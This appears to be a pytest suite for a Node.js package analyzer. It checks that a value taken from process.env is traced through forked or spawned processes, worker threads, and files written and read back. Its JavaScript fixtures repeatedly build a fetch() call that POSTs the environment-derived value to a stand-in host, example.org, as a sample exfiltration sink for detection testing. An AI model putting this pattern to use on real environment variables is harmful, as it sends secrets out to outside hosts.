"""Is a value found again behind a process or a file, and only where it is?"""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer import scan

FORK = 'const { fork } = require("child_process");\nconst path = require("path");\n'
FILES = 'const fs = require("fs");\nconst path = require("path");\n'
SEND = 'fetch("https://example.org/c", { method: "POST", body: String(%s) });\n'


def found(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
    """(category, name of the source) of the findings about TZ."""
    for name, text in {"package.json": '{"name": "a", "version": "1.0.0", "main": "index.js"}', **files}.items():
        file = folder / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
    findings = scan(str(folder)).to_dict()["findings"]
    return {(each["category"], each["source"]["name"]) for each in findings if each["source"]["name"] == "TZ"}


WORKER = (
    'import { Worker } from "node:worker_threads";\n'
    'new Worker(new URL("./w.mjs", import.meta.url), { workerData: { z: process.env.TZ } });\n'
)
SENT = {("payload", "TZ")}
KEPT = {("border", "TZ")}


@pytest.mark.parametrize(
    ("start", "read", "expected"),
    [
        ('fork("./child.js", [process.env.TZ])', "process.argv[2]", SENT),
        ('fork("./child.js", ["a", process.env.TZ])', "process.argv[2]", KEPT),
        ('fork("./child.js", ["a", process.env.TZ])', "process.argv[3]", SENT),
        ('fork("./child.js", [], { env: { ZONE: process.env.TZ } })', "process.env.ZONE", SENT),
        ('fork("./child.js", [], { env: { ZONE: process.env.TZ } })', "process.env.OTHER", KEPT),
        ('fork("./other.js", [process.env.TZ])', "process.argv[2]", KEPT),
        ('fork(path.resolve(__dirname, "child"), [process.env.TZ])', "process.argv[2]", SENT),
        ('fork(require.resolve("./child.js"), [process.env.TZ])', "process.argv[2]", SENT),
        ('fork("./child.js", [JSON.stringify({ a: 1, zone: process.env.TZ })])', "JSON.parse(process.argv[2]).zone", SENT),
        ('fork("./child.js", [JSON.stringify({ a: 1, zone: process.env.TZ })])', "JSON.parse(process.argv[2]).a", KEPT),
        ('require("child_process").spawn(process.execPath, [__dirname + "/child.js", process.env.TZ])', "process.argv[2]", SENT),
        ('require("child_process").spawn("acme", [process.env.TZ])', "process.argv[2]", KEPT),
    ],
)
def test_what_a_started_file_is_given(tmp_path: Path, start: str, read: str, expected: set[tuple[str, str]]) -> None:
    files = {"index.js": f"{FORK}{start};\n", "child.js": SEND % read, "other.js": "console.log(1);\n"}
    assert found(tmp_path, files) == expected


def test_a_file_that_the_started_one_loads_is_in_its_process(tmp_path: Path) -> None:
    files = {
        "index.js": f'{FORK}fork("./child.js", [process.env.TZ]);\n',
        "child.js": 'require("./lib");\n',
        "lib.js": SEND % "process.argv[2]",
    }
    assert found(tmp_path, files) == SENT


def test_the_data_of_a_worker(tmp_path: Path) -> None:
    worker = 'import { workerData } from "node:worker_threads";\n' + SEND
    assert found(tmp_path, {"index.mjs": WORKER, "w.mjs": worker % "workerData.z"}) == SENT


def test_another_member_of_the_data_of_a_worker(tmp_path: Path) -> None:
    worker = 'import { workerData } from "node:worker_threads";\n' + SEND
    assert found(tmp_path, {"index.mjs": WORKER, "w.mjs": worker % "workerData.other"}) == set()


@pytest.mark.parametrize(
    ("written", "read", "expected"),
    [
        ('"/var/lib/acme/kept.log"', '"/var/lib/acme/kept.log"', SENT),
        ('"/var/lib/acme/kept.log"', '"/var/lib/acme/other.log"', KEPT),
        ('path.join(folder, "kept.log")', 'path.join(folder, "kept.log")', SENT),
        ('path.join(folder, "kept.log")', 'path.join(folder, "settings.log")', KEPT),
        ("folder", "folder", SENT),
        ("folder", "elsewhere", KEPT),
    ],
)
def test_what_is_read_from_a_file_again(tmp_path: Path, written: str, read: str, expected: set[tuple[str, str]]) -> None:
    text = f"{FILES}const [folder, elsewhere] = [process.cwd(), process.cwd()];\nfs.writeFileSync({written}, process.env.TZ);\n"
    assert found(tmp_path, {"index.js": text + SEND % f'fs.readFileSync({read}, "utf8")'}) == expected


def test_what_a_callback_is_given_of_a_file(tmp_path: Path) -> None:
    write = 'fs.writeFileSync("/var/lib/acme/kept.log", process.env.TZ);\n'
    text = f'{FILES}{write}fs.readFile("/var/lib/acme/kept.log", "utf8", (error, body) => {{ {SEND % "body"} }});\n'
    assert found(tmp_path, {"index.js": text}) == SENT


@pytest.mark.parametrize("count", [300])
def test_many_borders_take_no_long(tmp_path: Path, count: int) -> None:
    text = FORK + "".join(f'fork("./child.js", ["x", process.env.TZ, {number}]);\n' for number in range(count))
    assert found(tmp_path, {"index.js": text, "child.js": (SEND % "process.argv[3]") * 50}) == SENT


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ('require("child_process").fork("./child.js")', "forked"),
        ('require("child_process").spawn(process.execPath, [__dirname + "/child.js"])', "spawned"),
        ('const { Worker } = require("worker_threads");\nnew Worker(__dirname + "/child.js")', "worker"),
    ],
)
def test_started_files_are_entry_points(tmp_path: Path, text: str, kind: str) -> None:
    (tmp_path / "package.json").write_text('{"name": "a", "version": "1.0.0", "main": "index.js"}')
    (tmp_path / "index.js").write_text(f"{text};\n")
    (tmp_path / "child.js").write_text("console.log(1);\n")
    entries = scan(str(tmp_path)).to_dict()["package"]["entry_points"]
    assert [(each["kind"], each["file"]) for each in entries] == [("main", "index.js"), (kind, "child.js")]
